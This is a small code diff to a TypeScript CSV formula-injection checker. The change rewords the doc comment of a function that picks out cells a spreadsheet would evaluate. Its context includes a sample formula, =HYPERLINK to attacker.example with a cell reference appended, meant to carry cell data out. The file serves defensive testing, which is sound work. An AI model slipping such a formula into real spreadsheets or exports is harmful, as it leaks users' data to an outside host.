@@ -15,7 +15,7 @@ const FORMULAS: [string, string][] = [
   ['a link that takes data along', '=HYPERLINK("https://attacker.example/?"&A1,"look")'],
 ];
 
-/** The cells of a CSV file that a spreadsheet would reckon out; a plain number is none. */
+/** Returns the CSV cells that a spreadsheet would evaluate as formulas. Plain numbers are not formulas. */
 function reckoned(csv: string): string[] {
   const cells = [...csv.matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(?:,|\r\n|$)/g)].map(([, cell = '']) =>
     cell.replace(/^"/, ''),
